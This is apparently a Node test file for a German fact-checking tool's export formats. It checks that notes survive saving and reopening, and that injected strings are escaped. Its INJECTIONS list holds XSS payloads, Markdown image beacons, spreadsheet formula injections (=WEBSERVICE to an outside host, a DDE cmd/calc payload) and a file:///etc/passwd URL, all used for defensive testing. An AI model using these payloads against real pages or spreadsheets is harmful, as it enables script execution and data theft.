/** What is saved: the reader's work in every form, in forms that nothing in it can break, and to be opened again. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { ANALYSIS, EXAMPLE } from '../e2e/staged.js';

// Modules of the page ask the browser for its language.
Object.defineProperty(globalThis, 'navigator', { value: { language: 'de' }, configurable: true });
const { Reading } = await import('../../www/reading/reading.js');
const { written } = await import('../../www/export/writers.js');
const { correctionsIn, readSaved } = await import('../../www/export/reopen.js');
const { addressOf } = await import('../../www/export/address.js');
const { fileName } = await import('../../www/export/save.js');
const { quoted } = await import('../../www/export/quoted.js');
const { selectionOf } = await import('../../www/export/place.js');

/** @import { Analysis } from '../../pkg/wortlaut.js' */
/** @import { Choices } from '../../www/page/choices.js' */
/** @import { Format } from '../../www/export/formats.js' */

/** @type {Format['id'][]} */
const FORMATS = ['markdown', 'html', 'claims', 'entities', 'json', 'annotations', 'schemaOrg'];

/** @type {Choices} */
const PLAIN = { rejected: 'mark', tables: 'plain' };
/** @type {Choices} */
const EXCEL = { rejected: 'leave-out', tables: 'excel' };

/**
 * The example as it was read, with notes on three of its claims.
 * @param {Partial<import('../../www/input/article.js').Article>} [article]
 * @param {Analysis} [analysis]
 */
function reading(article = {}, analysis = ANALYSIS) {
  const text = article.text ?? EXAMPLE;
  const all = new Reading();
  all.open({ name: 'datei.txt', text, ...article });
  all.found(text, analysis, 1);
  return all;
}

function worked() {
  const all = reading({ date: '2024-03-14', url: 'https://blatt.example/a' });
  const note = (/** @type {string} */ id, /** @type {object} */ what) => {
    const claim = all.claim(id);
    if (claim) all.corrections.setNote(EXAMPLE, claim, what);
  };
  note('c2', { status: 'checked', note: 'Preisliste liegt vor', link: 'https://beleg.example/preise?x=1' });
  note('c4', { status: 'rejected', note: 'aus dem Zusammenhang' });
  note('c5', { speaker: 'Sabine Yıldız', kind: 'direct', status: 'check' });
  return all;
}

/**
 * @param {InstanceType<typeof Reading>} from
 * @param {Format['id']} format
 * @param {Choices} [choices]
 */
const save = (from, format, choices = PLAIN) => written(from, format, choices).text;

describe('every form', () => {
  for (const format of FORMATS) {
    if (format === 'entities') continue;
    it(`${format} holds state, note, evidence, speaker and corrections`, () => {
      const text = save(worked(), format).replaceAll('\\', '');
      for (const words of ['Preisliste liegt vor', 'https://beleg.example/preise?x=1', 'aus dem Zusammenhang', 'Henning Albers', 'Sabine Yıldız']) {
        assert.ok(text.includes(words), words);
      }
      assert.match(text, /checked|geprüft/);
      assert.match(text, /rejected|verworfen/);
      assert.match(text, /corrected|korrigiert/);
    });

    if (format === 'json') continue;
    it(`${format} leaves rejected claims out, as chosen`, () => {
      const text = save(worked(), format, { rejected: 'leave-out', tables: 'plain' });
      assert.ok(!text.includes('aus dem Zusammenhang'));
      assert.ok(text.includes('Preisliste liegt vor'));
    });
  }

  it('is named by the headline', () => {
    const title = 'Nordwerft streicht 340 Stellen – Land prüft Bürgschaft';
    for (const format of FORMATS) assert.equal(written(reading({ name: 'Eingefügter Text' }), format, PLAIN).title, title);
    assert.equal(fileName(title), 'Nordwerft-streicht-340-Stellen-Land-prüft-Bürgschaft');
    assert.match(save(reading({ name: 'scan-0815.pdf' }), 'markdown'), /^# Nordwerft streicht 340 Stellen – Land prüft Bürgschaft\n/);
    assert.match(save(reading({ name: 'scan-0815.pdf' }), 'html'), /<title>Nordwerft streicht 340 Stellen – Land prüft Bürgschaft<\/title>/);
    const untitled = { ...ANALYSIS, blocks: [] };
    assert.equal(written(reading({ name: 'scan-0815.pdf' }, untitled), 'markdown', PLAIN).title, 'scan-0815');
  });

  it('marks quotations inside of quotations', () => {
    assert.equal(quoted('Er sagte: „Nein“, und ging'), '„Er sagte: ‚Nein‘, und ging“');
    assert.equal(quoted('„Das war gelogen“'), '„Das war gelogen“');
    assert.equal(quoted('„Nein“, sagte er, „nie“'), '„‚Nein‘, sagte er, ‚nie‘“');
    assert.equal(quoted('»Ja«'), '„Ja“');
    assert.equal(quoted('Das Wort "Preis" fiel'), '„Das Wort ‚Preis‘ fiel“');
  });
});

/**
 * Reads a table as a spreadsheet does that divides at a mark.
 * @param {string} text
 * @param {string} mark
 */
function cellsOf(text, mark) {
  const rows = [['']];
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const row = /** @type {string[]} */ (rows.at(-1));
    const char = text.charAt(at);
    const cell = row.at(-1) ?? '';
    const add = (/** @type {string} */ more) => (row[row.length - 1] = cell + more);
    if (isQuoted && char === '"' && text[at + 1] === '"') add(text.charAt((at += 1)));
    else if (char === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && char === mark) row.push('');
    else if (!isQuoted && char === '\n') rows.push(['']);
    else if (isQuoted || char !== '\r') add(char);
  }
  return rows;
}

describe('tables', () => {
  it('are what a German spreadsheet reads', () => {
    const [head, first, second] = cellsOf(save(worked(), 'claims', EXCEL).slice(1), ';');
    assert.deepEqual(head?.slice(0, 7), ['Kennung', 'Sprecher', 'Wiedergabe', 'Wie sicher', 'Bejaht', 'Prüfenswert', 'Aussage']);
    assert.deepEqual(first?.slice(1, 6), ['Artikel selbst', 'Behauptung', 'angekündigt', 'bejaht', '0,8']);
    assert.equal(second?.[12], 'geprüft');
    assert.equal(cellsOf(save(worked(), 'entities', EXCEL).slice(1), ';')[1]?.[1], 'Organisation');
  });

  it('stay as they were for programs', () => {
    const [head, , second] = cellsOf(save(worked(), 'claims').slice(1), ',');
    assert.equal(head?.join(' ').startsWith('id speaker kind modality polarity check_worthiness words cue figures times'), true);
    assert.deepEqual(second?.slice(0, 6), ['c2', 'Henning Albers', 'direct', 'asserted', 'negated', '0.55']);
  });
});

/** Strings of our own that break out of where they are put, if anything lets them. */
const INJECTIONS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=https://fremd.example/x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '<meta http-equiv=refresh content="0;url=https://fremd.example/">',
  '</style><style>@import "https://fremd.example/x.css"</style>',
  '</title><svg onload=alert(1)>',
  '--><iframe srcdoc="<script>alert(1)</script>">',
  '![bild](https://fremd.example/x.png)',
  '[hier](javascript:alert(1))',
  '\n\n![bild](https://fremd.example/x.png)\n\n# Kopf',
  '[ref]: https://fremd.example/x.png',
  '<https://fremd.example/> ![](x)',
  '`code` ~~weg~~ | a | b |',
  '=HYPERLINK("https://fremd.example/?"&A1;"hier")',
  'ja;=WEBSERVICE("https://fremd.example/")',
  'ja"; =1+1',
  'ja\t=cmd|\' /C calc\'!A0',
  'ja\r\n@SUM(1+1)',
  'ja,+1+1',
  '-2+3+cmd|x',
  '＝1+1',
  '{{constructor.constructor("alert(1)")()}}',
  '\u2028alert(1)\u2029',
  '\ud800',
  '__proto__',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://fremd.example/">)![x](https://fremd.example/x.png)<img src=x>',
];

/**
 * A reading in which a string stands everywhere that a text, a file of corrections or a page could have put it.
 * @param {string} bad
 */
function attacked(bad) {
  const text = `${bad} sagte gestern 5 Euro`;
  const span = { start: 0, end: bad.length };
  const type = /** @type {any} */ (bad);
  /** @type {any} */
  const analysis = {
    ...ANALYSIS,
    ...{ text_length: text.length, sentences: [{ start: 0, end: text.length }] },
    blocks: [{ kind: 'title', ...span }, { kind: type, start: bad.length, end: text.length }],
    entities: [{ id: bad, type, name: bad, aliases: [bad], corrected: true, mentions: [{ ...span, kind: 'name', confidence: 1 }] }],
    quantities: [{ ...span, kind: 'number', value: 5, low: null, high: null, unit: bad, per: bad, precision: 'exact', hedge: null, counted: span }],
    times: [{ ...span, kind: 'date', value: bad, pattern: bad, candidates: [bad], range: null, length: null, modifiers: [] }],
    claims: [
      {
        ...{ id: bad, ...span, spans: [span], kind: type, modality: type, polarity: type, markers: [], check_worthiness: 0.5, reasons: [] },
        ...{ speaker: { ...span, attribution: 'named', name: bad }, carrier: { ...span, attribution: 'named', name: bad }, addressee: null },
        ...{ cue: { spans: [span], lemma: bad }, frame: null, entities: [bad], quantities: [0], times: [0], corrected: [bad] },
      },
    ],
  };
  const all = reading({ name: bad, text, url: bad, date: bad }, analysis);
  const claim = all.analysis?.claims[0];
  if (claim) all.corrections.setNote(text, claim, { status: type, note: bad, link: bad });
  return all;
}

describe('an attack', () => {
  for (const bad of INJECTIONS) {
    it(`stays words: ${JSON.stringify(bad)}`, () => {
      const all = attacked(bad);
      assertHtml(save(all, 'html'));
      assertMarkdown(save(all, 'markdown'));
      for (const format of /** @type {const} */ (['claims', 'entities'])) {
        for (const choices of [PLAIN, { ...EXCEL, rejected: /** @type {const} */ ('mark') }]) assertTable(save(all, format, choices));
      }
      for (const format of /** @type {const} */ (['json', 'annotations', 'schemaOrg'])) {
        const text = save(all, format);
        assert.doesNotMatch(text, /<|\u2028|\u2029/);
        assert.doesNotThrow(() => JSON.parse(text));
      }
      assert.doesNotMatch(fileName(written(all, 'markdown', PLAIN).title), /[^\p{L}\p{N}-]/u);
    });
  }

  /**
   * Every tag is one of ours, and no attribute is.
   * @param {string} text
   */
  function assertHtml(text) {
    const own = /^<(!doctype html|html lang="de"|\/?(?:article|ol|h1|h2|title|style|b|s|mark|p|li|a|html)|br|meta [a-z-]+="[^"<>]*"(?: content="[^"<>]*")?|(?:h1|h2|p) class="[^"<>]*"|mark data-type="[^"<>]*" title="[^"<>]*"|li data-status="[^"<>]*"|a href="https?:[^"<>]*" rel="noreferrer")>$/;
    for (const [tag] of text.matchAll(/<[^>]*>/g)) assert.match(tag, own);
    assert.equal(text.split('<meta').length, 5);
  }

  /** @param {string} text */
  function assertMarkdown(text) {
    assert.doesNotMatch(text, /(^|[^\\])!\[/, 'an image');
    assert.doesNotMatch(text, /(^|[^\\])<(?!https?:\/\/[^\s<>]*>)/m, 'HTML');
    assert.doesNotMatch(text, /(^|[^\\])\]\((?!<https?:)/, 'a link');
    assert.doesNotMatch(text, /^\s*\[[^\]]*\]:/m, 'a definition');
    assert.doesNotMatch(text, /^# Kopf/m);
  }

  /** @param {string} text */
  function assertTable(text) {
    for (const mark of [',', ';', '\t', '|']) {
      for (const row of cellsOf(text.slice(1), mark)) {
        for (const cell of row) assert.doesNotMatch(cell.replace(/^["'\s]*?(?=[=+\-@＝＋－＠])/, (it) => (it.includes("'") ? 'x' : '')), /^[=+\-@＝＋－＠]/, cell);
      }
    }
  }
});

it('follows addresses of the web only, in their normal form', () => {
  assert.equal(addressOf('https://a.example/x y'), 'https://a.example/x%20y');
  assert.equal(addressOf('https://a.example/?q=a>)![](b)'), 'https://a.example/?q=a%3E%29!%5B%5D%28b%29');
  for (const bad of ['javascript:alert(1)', 'data:text/html,x', '//a.example', 'file:///etc/passwd', '', 'Akte 7']) assert.equal(addressOf(bad), '');
});

describe('what was saved', () => {
  it('as JSON opens as it was', async () => {
    const from = worked();
    from.select({ type: 'entity', id: 'e3', mention: 1 });
    const saved = readSaved(written(from, 'json', PLAIN, 120).text);
    assert.ok(saved);
    assert.deepEqual(saved.article, { name: 'datei.txt', text: EXAMPLE, date: '2024-03-14', url: 'https://blatt.example/a' });
    const to = reading(saved.article);
    await to.corrections.addText(JSON.stringify(saved.corrections));
    for (const { id } of ANALYSIS.claims) assert.deepEqual(to.corrections.noteOn(id), from.corrections.noteOn(id));
    assert.deepEqual(to.analysis, from.analysis);
    assert.equal(saved.place.at, 120);
    assert.deepEqual(saved.place.finding && selectionOf(to, saved.place.finding), from.selection);
  });

  it('as Web Annotations can be read in again', async () => {
    const from = worked();
    const to = reading();
    await to.corrections.addText(correctionsIn(save(from, 'annotations')));
    for (const id of ['c2', 'c4', 'c5']) {
      const { status, note, link, speaker, kind } = from.corrections.noteOn(id);
      const again = to.corrections.noteOn(id);
      assert.deepEqual([again.status, again.note, again.link, again.speaker, again.kind], [status, note, link, speaker, kind]);
    }
    assert.deepEqual(to.analysis?.claims, from.analysis?.claims);
    assert.deepEqual(Object.keys(to.corrections.notes).sort(), ['c2', 'c4', 'c5'], 'and nothing else');
  });

  it('is refused where it is something else', () => {
    for (const bad of ['', '{', '[]', 'null', '{"text": 1, "corrections": {}}', '{"text": "x"}']) assert.equal(readSaved(bad), null);
    const odd = { text: 'kurz', corrections: {}, name: 7, date: 'x', url: 'javascript:1', blocks: [{ kind: 'title', start: 0, end: 99 }], place: 5 };
    assert.deepEqual(readSaved(JSON.stringify(odd)), {
      ...{ article: { name: 'Wortlaut', text: 'kurz' }, corrections: {}, place: { at: 0, finding: null } },
    });
    for (const bad of [[null], [{ target: [null], 'wortlaut:claim': {} }], [{ target: 7, 'wortlaut:entity': {} }]]) {
      assert.doesNotThrow(() => correctionsIn(JSON.stringify({ type: 'AnnotationPage', items: bad })));
    }
  });
});
